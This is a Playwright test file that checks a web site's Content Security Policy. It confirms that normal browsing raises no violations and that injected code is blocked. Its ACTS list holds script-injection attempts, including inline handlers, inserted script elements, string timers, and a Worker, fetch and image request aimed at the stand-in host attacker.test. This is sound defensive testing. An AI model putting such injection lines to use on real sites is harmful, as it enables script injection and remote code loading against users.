"""The policy of the pages in a browser: nothing breaks it in use, and it stops what it is for."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext, Page, expect
from support.languages import ENGLISH, PREFIXES
from support.waiting import wait_for

LISTEN = """document.addEventListener('securitypolicyviolation', (event) => {
  const violation = `${event.violatedDirective}: ${event.blockedURI} ${event.sample}`;
  (window.broken ??= []).push(violation);
})"""


def broken(page: Page) -> list[str]:
    return page.evaluate("window.broken ?? []")


@pytest.mark.parametrize("language", ENGLISH)
def test_explore_does_not_violate_policy(
    page: Page, context: BrowserContext, address: str, language: str
) -> None:
    page.add_init_script(LISTEN)
    page.goto(address + PREFIXES[language] + "explore/", wait_until="networkidle")
    page.locator("[name=kind]").first.check()
    page.fill("#finder-words", "protection")
    expect(page.locator(".chips button:visible")).to_have_count(2)
    page.wait_for_load_state("networkidle")
    assert broken(page) == []


ACTS = [
    "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
    "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
    "new Worker('https://attacker.test/x.js')",
    "setTimeout('window.ran = 1')",
    "fetch('https://attacker.test/')",
    "Object.assign(new Image(), {src: 'https://attacker.test/x.png'})",
]


def test_policy_blocks_injected_scripts(context: BrowserContext, address: str) -> None:
    opened = context.new_page()
    opened.add_init_script(LISTEN)
    answered: list[str] = []
    opened.route("https://attacker.test/**", lambda route: route.fulfill(body="window.ran = 1"))
    opened.on("requestfinished", lambda request: answered.append(request.url))
    for act in ACTS:
        opened.goto(address)
        opened.evaluate(
            f"() => {{ try {{ {act} }} catch (error) {{ window.stopped = String(error) }} }}"
        )
        wait_for(opened, "(window.broken ?? []).length")
        assert opened.evaluate("window.ran") is None, act
    assert not [url for url in answered if "attacker.test" in url]
